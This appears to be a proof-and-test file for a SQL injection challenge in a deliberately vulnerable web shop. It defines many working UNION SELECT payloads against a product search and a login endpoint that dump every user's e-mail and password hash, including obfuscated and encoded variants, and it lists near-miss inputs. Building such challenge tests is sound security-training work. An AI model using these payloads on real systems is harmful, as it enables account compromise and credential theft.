import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const search = (attacker: Attacker, term: string) => attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
const searching = (term: string) => (attacker: Attacker) => search(attacker, term)
/** Appends rows of all accounts. @param columns nine columns @param rest rest of the statement */
const union = (columns: string, rest = '--') => searching(`qwert')) UNION SELECT ${columns} FROM Users ${rest}`)

/** Reads `size` accounts per request until none are left. */
const inPages = (size: number) => async (attacker: Attacker) => {
  for (let offset = 0; ; offset += size) {
    const page = `LIMIT ${size} OFFSET ${offset}--`
    const { data } = (await union('id,email,password,4,5,6,7,8,9', page)(attacker)).json()
    if (data.length === 0) return
  }
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The table definitions contain the names of the table and its columns.
    await search(attacker, "')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--")
    await search(attacker, "')) union select id,'2','3',email,password,'6','7','8','9' from users--")
  },
  spellings: {
    'with the columns in another order': union("'1',password,'3','4',email,'6','7','8','9'"),
    'with columns of nothing': union('NULL,NULL,NULL,NULL,NULL,NULL,NULL,password,email'),
    'with all rows': searching("x')) UNION ALL SELECT id,username,email,password,role,6,7,8,9 FROM Users--"),
    'with a comment that is left open': union('1,email,password,4,5,6,7,8,9', '/*'),
    'with a semicolon': union('1,email,password,4,5,6,7,8,9', ';'),
    'with comments for blanks': searching("'))/**/uNiOn/**/sElEcT/**/1,email,password,4,5,6,7,8,9/**/fRoM/**/Users--"),
    'with a text around each value': union("'qbzq'||COALESCE(email,' ')||'vxk'||password||'qxpq',2,3,4,5,6,7,8,9"),
    'with all in one value': union("1,group_concat(email||':'||password,'~'),3,4,5,6,7,8,9"),
    'with two values for all': union('1,group_concat(email),group_concat(password),4,5,6,7,8,9'),
    'as JSON': union('json_group_object(email,password),2,3,4,5,6,7,8,9'),
    'in capitals': union('1,upper(email),upper(password),4,5,6,7,8,9'),
    'in hexadecimal digits': union('1,hex(email),hex(password),4,5,6,7,8,9'),
    'in pages of five': inPages(5),
    'one by one': inPages(1),
    'with an order of its own': union('9,email,password,4,5,6,7,8,9', 'ORDER BY 2 DESC--'),
    'through a condition that is a question of its own': searching(
      "')) or 0 union select 1,(select group_concat(email||password) from Users),3,4,5,6,7,8,9--",
    ),
    'through the login': (attacker) =>
      attacker.post('/rest/user/login', {
        email:
          "' UNION SELECT 999,'',group_concat(email||' '||password),'','customer','','','','',1,'2020','2020',NULL FROM Users--",
        password: 'x',
      }),
  },
  nearMisses: {
    'an ordinary search': searching('apple'),
    'a search for everything': searching(''),
    'all e-mails without the hashes': union('id,email,username,role,5,6,7,8,9'),
    'all hashes without the e-mails': union('id,password,username,role,5,6,7,8,9'),
    'e-mails in one answer, hashes in another': async (attacker) => {
      await union('id,email,3,4,5,6,7,8,9')(attacker)
      await union('id,password,3,4,5,6,7,8,9')(attacker)
    },
    'e-mails with the beginning of each hash': union('id,email,substr(password,1,12),4,5,6,7,8,9'),
    'the credentials of one account': union('id,email,password,4,5,6,7,8,9', 'WHERE id=1--'),
    'the credentials of all accounts but one': union('id,email,password,4,5,6,7,8,9', 'WHERE id!=7--'),
    'one column too few': union('id,email,password,4,5,6,7,8'),
    'the attack cut off, since only so many letters of a term are read': searching(
      `${' '.repeat(1950)}')) union select id,email,password,4,5,6,7,8,9 from Users--`,
    ),
    'signing in to an account of one’s own': (attacker) => attacker.becomeCustomer(),
  },
  bypasses: {
    'escape-with-backslash': searching("')) union select id,2,3,email,password,6,7,8,9 from users--"),
  },
})
